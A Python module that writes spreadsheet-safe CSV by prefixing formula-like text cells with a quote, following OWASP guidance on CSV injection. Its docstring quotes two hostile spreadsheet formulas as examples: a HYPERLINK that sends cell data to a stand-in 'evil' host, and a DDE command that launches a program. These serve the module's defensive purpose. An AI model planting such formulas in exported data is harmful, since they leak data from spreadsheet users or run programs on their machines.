r"""Export a table as CSV that is safe to open in a spreadsheet.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return) is run as a formula by Excel, LibreOffice and Google
Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks data and
``=cmd|' /C calc'!A0`` runs a program. Our free-text columns (notes,
perpetrator, target, headlines) come from news texts and coders, so an
export must not hand them to a spreadsheet as formulas.

Rules (OWASP "CSV Injection"):

- a text cell whose first character, or first character after leading
  white space (any Unicode white space: NBSP, U+2003, U+3000, line breaks),
  is one of ``= + - @``, a tab, a carriage return, or the full-width forms
  ``＝ ＋ － ＠`` gets a single quote ``'`` in front; the spreadsheet then
  shows it as text. The quote is visible to programs that read the CSV:
  this export is for people with spreadsheets, not for re-import (``data/``
  holds the real tables).
- the same holds for every line inside a cell: a line after a CR, LF or
  other line break that starts (after white space) with one of those
  characters gets the quote at its start, so a reader that splits the cell
  there still sees text (``ok\r=cmd|...`` is written ``ok\r'=cmd|...``,
  ``\r=1`` is written ``'\r'=1``).
- numbers stay numbers. Numeric columns are written as they are: ``-3`` in
  an ``Int64`` or ``float`` column is the number minus three, which a
  spreadsheet parses as a constant, never as a formula. A text cell that is
  a plain number (``-3``, ``+1.5``, ``-2e3``) is left alone for the same
  reason; ``-1+1`` is not a plain number (Excel evaluates it) and is
  prefixed.
- column names are text cells too and follow the same rule.
- missing values stay missing (an empty cell).
- every cell is quoted (``csv.QUOTE_ALL``, ``"`` doubled inside), so no
  reader splits a row at a CR or LF inside a cell; UTF-8, LF line endings,
  no index column.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd

from analysis.files import write_bytes_atomic
from analysis.vocabulary import is_missing

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width forms)."""
QUOTE_PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_LINE_BREAK = re.compile("(\r\n|[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029])")
"""A line break inside a cell: every break ``str.splitlines`` knows (CR, LF, CRLF, VT, FF, NEL, U+2028, ...)."""


def _starts_formula(text: str) -> bool:
    """Would a spreadsheet run ``text`` (a cell, or one line of it) as a formula?"""
    first = (text[:1], text.lstrip()[:1])
    return any(c in FORMULA_TRIGGERS for c in first) and not _PLAIN_NUMBER.fullmatch(text.strip())


def neutralise_cell(value):
    """Prefix one text cell, and each line inside it, with ``'`` when a spreadsheet would run it as a formula.

    >>> neutralise_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> neutralise_cell("@SUM(A1)"), neutralise_cell("  +cmd"), neutralise_cell("\\t=1")
    ("'@SUM(A1)", "'  +cmd", "'\\t=1")
    >>> neutralise_cell("-3"), neutralise_cell("-1+1"), neutralise_cell("Ain al-Asad")
    ('-3', "'-1+1", 'Ain al-Asad')
    >>> neutralise_cell("ok\\r=cmd"), neutralise_cell("\\u3000=1"), neutralise_cell("\\n=1")
    ("ok\\r'=cmd", "'\\u3000=1", "'\\n'=1")
    >>> neutralise_cell(None) is None, neutralise_cell(7)
    (True, 7)
    """
    if not isinstance(value, str):
        return value
    parts = _LINE_BREAK.split(value)  # line, break, line, break, ..., line
    for i in range(2, len(parts), 2):
        if _starts_formula(parts[i]):
            parts[i] = QUOTE_PREFIX + parts[i]
    text = "".join(parts)
    return QUOTE_PREFIX + text if _starts_formula(value) else text


def _is_text_column(series: pd.Series) -> bool:
    dtype = series.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``df`` whose text cells and column names cannot run as formulas.

    Numeric, boolean and date columns are returned unchanged (same dtype);
    text and categorical columns come back as ``object`` columns with
    missing values kept as missing.

    >>> table = pd.DataFrame({"note": ["=1+2", "fine", None], "killed": [-3, 0, 2]})
    >>> neutralise_formulas(table).to_dict("list")
    {'note': ["'=1+2", 'fine', None], 'killed': [-3, 0, 2]}
    """
    out = pd.DataFrame(index=df.index)
    for position, name in enumerate(df.columns):
        column = df.iloc[:, position]
        label = neutralise_cell(name) if isinstance(name, str) else name
        if _is_text_column(column):
            cells = [None if is_missing(v) else neutralise_cell(v) for v in column.astype(object)]
            column = pd.Series(cells, index=df.index, dtype=object)
        out.insert(position, label, column, allow_duplicates=True)
    return out


def write_csv_safely(df: pd.DataFrame, path: Path | str) -> Path:
    """Write ``df`` as spreadsheet-safe CSV to ``path`` (atomically) and return the path.

    See the module docstring for the rules. ``path`` must be absent or a regular file:
    anything else (``/dev/full``, a FIFO, a symlink, a directory) raises
    :class:`analysis.files.OutputTargetError` and is left alone.
    """
    buffer = io.StringIO()
    neutralise_formulas(df).to_csv(buffer, index=False, lineterminator="\n", quoting=csv.QUOTE_ALL)
    write_bytes_atomic(Path(path), buffer.getvalue().encode("utf-8"))
    return Path(path)
